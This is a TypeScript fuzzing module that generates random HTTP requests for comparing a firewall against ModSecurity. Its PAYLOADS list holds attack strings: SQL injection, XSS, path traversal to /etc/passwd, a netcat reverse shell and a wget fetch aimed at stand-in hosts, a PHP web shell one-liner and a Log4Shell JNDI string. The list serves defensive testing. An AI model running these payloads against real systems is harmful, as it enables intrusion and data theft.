/** Requests of many forms that carry attacks, or what looks like such: for comparison with ModSecurity. */
import type { Random } from '../regex-inputs.ts';
import { mutate } from './mutations.ts';
import type { Exchange } from './peer.ts';

const PAYLOADS = [
  "1' or '1'='1",
  '1 union select name, pass from users',
  "'; drop table users; --",
  "admin'/*",
  '1 and sleep(5)',
  "x' and benchmark(1000000,md5(1))#",
  "'||(select version())||'",
  'id=1 having 1=1',
  '1;waitfor delay "0:0:5"',
  '0x414243 xor char(65)',
  '1 procedure analyse()',
  'select * from information_schema.tables',
  '{"$gt": ""}',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=confirm`1`>',
  'javascript:alert(document.cookie)',
  '<iframe src="data:text/html,x"></iframe>',
  '<a href="vbscript:x">y</a>',
  '<div style="background:url(javascript:x)">',
  '<object data=x><embed src=y><applet code=z>',
  '<meta http-equiv="refresh" content="0;url=x">',
  '{{constructor.constructor("x")()}}',
  'window["alert"](1)',
  '../../../../etc/passwd',
  '/etc/shadow',
  '..\\..\\windows\\win.ini',
  'file:///proc/self/environ',
  '.htaccess',
  'http://192.0.2.1/shell.txt?',
  'ftp://evil.example/x.php',
  ';cat /etc/passwd',
  '|id',
  '`uname -a`',
  '$(wget http://evil.example/x)',
  '& ping -n 3 127.0.0.1 &',
  ';nc -e /bin/sh 192.0.2.1 4444',
  'powershell.exe -enc AAAA',
  '() { :;}; echo x',
  '<?php system($_GET["c"]); ?>',
  '<?= `id` ?>',
  'O:8:"stdClass":1:{s:1:"a";i:1;}',
  'php://filter/convert.base64-encode/resource=x',
  'base64_decode("eA==")',
  'allow_url_include=1',
  '$_SERVER[x]',
  'phpinfo()',
  'java.lang.Runtime.getRuntime().exec("id")',
  '\x24{jndi:ldap://evil.example/a}',
  'rO0ABXNyABE',
  '%{(#a=@java.lang.Runtime@getRuntime())}',
  'org.apache.commons.collections.Transformer',
  'require("child_process").exec("id")',
  '_$$ND_FUNC$$_function(){}()',
  '\r\nSet-Cookie: a=b',
  'GET /x HTTP/1.1\r\nHost: y',
  'PHPSESSID=abcdef0123456789',
  '.cookie;expires=1',
  '<!--#exec cmd="id" -->',
  '(|(uid=*)(userPassword=*))',
  'plain words of a text',
  "it's only a question, isn't it?",
  '42',
  '',
  '4111111111111111',
  '2024-01-01T00:00:00Z',
  'a@b.example; c, d',
  'https://shop.example/search?q=a&b=c#top',
];

const NAMES = ['q', 'id', 'user', 'file', 'cmd', 'a[b]', 'json.x', 'PHPSESSID', 'x-y', 'utf8', 'p p', 'ü', 'x.y[]', ''];
const PATHS = [
  '/',
  '/index.php',
  '/a/b.jsp',
  '/.git/config',
  '/x%2fy',
  '/a/../b',
  '/api/v1/items/7',
  '/wp-admin/',
  '/p;s=1',
];
const AGENTS = [
  'Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0',
  'sqlmap/1.7',
  'curl/8.5.0',
  'Nikto',
  '',
];
const METHODS = [
  'GET',
  'GET',
  'POST',
  'POST',
  'POST',
  'PUT',
  'HEAD',
  'OPTIONS',
  'DELETE',
  'PATCH',
  'TRACE',
  'PROPFIND',
];

function pick<T>(list: readonly T[], random: Random): T {
  return list[random(list.length)];
}

export function payload(random: Random): string {
  return mutate(pick(PAYLOADS, random), random);
}

/** Percent-encodes what a request target cannot hold, and at random some more. */
function encoded(text: string, random: Random): string {
  const raw = random(4) === 0;
  return Array.from(text, (char) => {
    const code = char.charCodeAt(0);
    const must = code <= 0x20 || code === 0x7f || char === '#' || (!raw && /[^\w.~%-]/.test(char));
    return must ? `%${code.toString(16).padStart(2, '0')}` : char;
  }).join('');
}

function query(random: Random, most: number): string {
  const parts = Array.from({ length: random(most + 1) }, () => {
    const name = random(12) === 0 ? payload(random) : pick(NAMES, random);
    return `${encoded(name, random)}${random(15) === 0 ? '' : '='}${encoded(payload(random), random)}`;
  });
  return parts.join(random(20) === 0 ? ';' : '&');
}

const QUOTES = ['"', '"', '"', '"', "'", ''];

/** A multipart body with now and then something odd about it. */
function multipart(random: Random): { type: string; body: string } {
  const boundary = pick(['B', '----WebKitFormBoundaryX1', "a'b", 'a b', '0000'], random);
  const end = random(6) === 0 ? '\n' : '\r\n';
  const odd = (share: number) => random(share) === 0;
  let body = odd(15) ? `preamble${end}` : '';
  for (let left = 1 + random(3); left > 0; left--) {
    const quote = pick(QUOTES, random);
    const name = odd(10) ? payload(random).replace(/[\r\n]/g, '') : pick(NAMES, random);
    const file = odd(2)
      ? `; filename=${quote}${odd(3) ? payload(random).replace(/[\r\n]/g, '') : 'a.txt'}${quote}`
      : '';
    body += `--${boundary}${odd(20) ? ' ' : ''}${end}`;
    body += `Content-Disposition: ${odd(20) ? 'attachment' : 'form-data'};${odd(8) ? `${end} ` : ' '}name=${quote}${name}${quote}${file}${end}`;
    if (odd(3)) body += `Content-Type: ${odd(3) ? payload(random).replace(/[\r\n]/g, '') : 'text/plain'}${end}`;
    if (odd(12)) body += `${odd(2) ? 'NoColon' : ' folded: x'}${end}`;
    body += `${end}${payload(random)}${odd(15) ? `${end}--other` : ''}${end}`;
  }
  if (!odd(12)) body += `--${boundary}--${odd(12) ? '' : end}`;
  if (odd(15)) body += `epilogue${end}`;
  const parameter = odd(8) ? `boundary="${boundary}"` : `boundary=${boundary}`;
  return {
    type: `multipart/form-data${odd(30) ? '' : ';'}${odd(20) ? '  ' : ' '}${parameter}${odd(30) ? '; boundary=Z' : ''}`,
    body,
  };
}

function jsonValue(random: Random, depth: number): unknown {
  const kind = random(depth > 3 ? 4 : 6);
  if (kind === 0) return random(1000) / 8;
  if (kind === 1) return pick([true, false, null], random);
  if (kind < 4) return payload(random);
  const items = Array.from({ length: random(4) }, () => jsonValue(random, depth + 1));
  if (kind === 4) return items;
  return Object.fromEntries(items.map((item) => [random(6) === 0 ? payload(random) : pick(NAMES, random), item]));
}

function json(random: Random): { type: string; body: string } {
  const text = Buffer.from(JSON.stringify(jsonValue(random, 0))).toString('latin1');
  const body = random(12) === 0 ? text.slice(0, random(text.length + 1)) : text;
  return {
    type: pick(['application/json', 'application/json; charset=utf-8', 'application/vnd.api+json'], random),
    body,
  };
}

function escaped(text: string): string {
  return text.replace(/[&<"\x00-\x1f\x7f-\xff]/g, (char) => `&#${Math.max(32, char.charCodeAt(0))};`);
}

function xml(random: Random): { type: string; body: string } {
  const inner = Array.from({ length: random(4) }, () => {
    const text =
      random(3) === 0 ? `<![CDATA[${payload(random).replace(/\]\]>|[^\x20-\x7e]/g, '')}]]>` : escaped(payload(random));
    return `<b x="${escaped(payload(random))}">${text}</b>`;
  });
  const body = `<?xml version="1.0"?><a>${inner.join('')}${random(12) === 0 ? '' : '</a>'}`;
  return { type: pick(['application/xml', 'text/xml; charset=utf-8', 'application/soap+xml'], random), body };
}

function body(random: Random): { type: string; body: string } {
  switch (random(6)) {
    case 0:
      return multipart(random);
    case 1:
      return json(random);
    case 2:
      return xml(random);
    case 3:
      return { type: pick(['text/plain', 'application/octet-stream', 'x', ''], random), body: payload(random) };
    default: {
      const type = pick(
        ['application/x-www-form-urlencoded', 'application/x-www-form-urlencoded; charset=utf-8'],
        random,
      );
      return { type, body: random(10) === 0 ? payload(random) : query(random, 6) };
    }
  }
}

const LEAKS = [
  'fine',
  'You have an error in your SQL syntax near',
  'ORA-00933: SQL command not properly ended',
  'Warning: mysql_connect(): Access denied in <b>/var/www/x.php</b> on line <b>3</b>',
  'Fatal error: Uncaught exception in /x.php',
  '<?php echo 1; ?>',
  'java.lang.NullPointerException at java.util.',
  'Microsoft OLE DB Provider for SQL Server error',
  'PostgreSQL query failed: ERROR: syntax error',
  '<title>Index of /</title>',
  'SQLite/JDBCDriver',
  '[Microsoft][ODBC SQL Server Driver]',
  '\x1f\x8b\x08binary',
];

function response(random: Random): Exchange['response'] {
  const text = random(3) > 0 ? 'fine' : pick(LEAKS, random);
  const status = pick([200, 200, 200, 404, 500, 302], random);
  return { status, headers: ['Content-Type', pick(['text/html', 'text/plain; charset=utf-8'], random)], body: text };
}

function field(text: string): string {
  return text.replace(/[\0\r\n]/g, ' ').trim();
}

/** A request that an HTTP server would take, as far as its framing goes. */
export function attack(random: Random): Exchange {
  const method = pick(METHODS, random);
  const search = query(random, 4);
  const path = random(6) === 0 ? `/${encoded(payload(random), random).replaceAll('?', '%3f')}` : pick(PATHS, random);
  const headers = ['Host', random(12) === 0 ? pick(['192.0.2.1', '', 'a.example:8080'], random) : 'a.example'];
  if (random(15) > 0) headers.push('User-Agent', random(8) === 0 ? field(payload(random)) : pick(AGENTS, random));
  if (random(6) > 0) headers.push('Accept', random(8) === 0 ? '' : '*/*');
  if (random(3) === 0) headers.push('Cookie', field(`a=${payload(random)}; b=${payload(random)};c`));
  if (random(5) === 0) headers.push('Referer', field(payload(random)));
  if (random(8) === 0)
    headers.push(
      pick(['X-Forwarded-For', 'X-A', 'Range', 'Content-Encoding', 'Proxy', 'Accept-Language'], random),
      field(payload(random)),
    );
  if (random(25) === 0) headers.push('Range', pick(['bytes=0-1,1-2,2-3,3-4,4-5,5-6', 'bytes=5-1', 'bytes=0-'], random));
  if (random(25) === 0) headers.push('Connection', pick(['keep-alive, close', 'close', 'keep-alive'], random));
  let content = '';
  if (method !== 'GET' && method !== 'HEAD' ? random(10) > 0 : random(15) === 0) {
    const made = body(random);
    content = made.body;
    if (made.type !== '') headers.push('Content-Type', made.type);
    headers.push('Content-Length', String(content.length));
  }
  return {
    method,
    target: search === '' ? path : `${path}?${search}`,
    headers,
    body: content,
    response: response(random),
  };
}
